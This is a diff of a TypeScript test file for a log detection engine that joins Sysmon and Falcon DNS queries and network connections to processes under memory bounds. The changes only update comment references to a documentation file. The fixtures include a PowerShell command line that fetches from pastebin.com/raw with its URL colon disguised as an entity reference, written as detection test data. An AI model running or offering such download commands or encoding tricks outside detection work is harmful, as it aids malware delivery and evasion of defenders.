@@ -4,7 +4,7 @@ import { defaultRule } from '../../lib/rule/index.ts';
 import { chunks, falconLines, sysmonDns } from './fixtures.ts';
 
 /**
- * The joins of SPEC §2 under the engine's memory bounds (lib/engine/limits.ts): a connection
+ * The joins of docs/detection.md under the engine's memory bounds (lib/engine/limits.ts): a connection
  * waits for the DNS answer that names its host and is joined when it arrives; what is kept is
  * bounded by bytes of input and by process ends, never by the size of the object.
  */
@@ -126,7 +126,7 @@ describe.each(['fast', 'full'] as const)('Joins under bounded memory (%s mode)',
     // Act
     const forgotten = await scan(lines, mode, { maxEndedProcesses: 3 });
     const kept = await scan(lines, mode, { maxEndedProcesses: 4 });
-    // Assess: without its process record a Falcon DNS query names no process (SPEC §2)
+    // Assess: without its process record a Falcon DNS query names no process (docs/detection.md, "Joins")
     expect(forgotten.groups).toEqual([]);
     expect(kept.groups.map((g) => g.key.process)).toEqual(['powershell.exe']);
   });
@@ -145,7 +145,7 @@ describe.each(['fast', 'full'] as const)('Joins under bounded memory (%s mode)',
     // Act
     const forgotten = await scan(lines, mode, { maxEndedBytes: 10_000 });
     const kept = await scan(lines, mode, { maxEndedBytes: 40_000 });
-    // Assess: without its process record a Falcon DNS query names no process (SPEC §2)
+    // Assess: without its process record a Falcon DNS query names no process (docs/detection.md, "Joins")
     expect(forgotten.groups).toEqual([]);
     expect(kept.groups.map((g) => g.key.process)).toEqual(['powershell.exe']);
   });
@@ -224,7 +224,7 @@ describe.each(['fast', 'full'] as const)(
         maxCandidateWaitBytes: 2_000,
       });
       // Assess: the flush resolved only cmd.exe's query, which had waited out the 2 kB; powershell's
-      // waited for its process record (SPEC §2: a Falcon query names no process of its own)
+      // waited for its process record (docs/detection.md, "Joins": a Falcon query names no process of its own)
       expect(processes(groups)).toEqual(['cmd.exe', 'powershell.exe']);
     });
 
@@ -268,7 +268,7 @@ describe.each(['fast', 'full'] as const)(
       // Act
       const dropped = await scan(lines, mode, { maxProcessContexts: 2 });
       const kept = await scan(lines, mode, { maxProcessContexts: 3 });
-      // Assess: without its process record a Falcon DNS query names no process (SPEC §2)
+      // Assess: without its process record a Falcon DNS query names no process (docs/detection.md, "Joins")
       expect(dropped.groups).toEqual([]);
       expect(dropped.stats.skipped).toEqual({ 'context-evicted': 1 });
       expect(kept.groups.map((g) => g.key.process)).toEqual(['powershell.exe']);
@@ -369,7 +369,7 @@ describe.each(['fast', 'full'] as const)('A waiting Sysmon connection (%s mode)'
     ];
     // Act
     const { groups } = await scanInput(reusingOneBuffer(parts), mode);
-    // Assess: the connection (written first) and the DNS query, one group (SPEC §2-§3)
+    // Assess: the connection (written first) and the DNS query, one group (docs/detection.md)
     expect(groups.map((g) => [g.key.domain, g.count, g.firstSeen])).toEqual([
       ['pastebin.com', 2, Date.parse('2024-03-01T09:59:59.900Z')],
     ]);
@@ -388,7 +388,7 @@ describe('A URL host in a Sysmon command line that entity references spell', () 
     1,
     `${image}<Data Name='OriginalFileName'>PowerShell.EXE</Data><Data Name='CommandLine'>powershell -c iwr https&#58;//pastebin.com/raw/x</Data><Data Name='ParentImage'>C:\\Windows\\explorer.exe</Data><Data Name='User'>CORP\\jdoe</Data>`,
   );
-  /** A connection with no hostname: only the command line can name its host (SPEC §2). */
+  /** A connection with no hostname: only the command line can name its host (docs/detection.md, "Joins"). */
   const connect = event(
     3,
     `${image}<Data Name='User'>CORP\\jdoe</Data><Data Name='Initiated'>true</Data><Data Name='DestinationIp'>104.20.67.143</Data><Data Name='DestinationHostname'>-</Data><Data Name='DestinationPort'>443</Data>`,
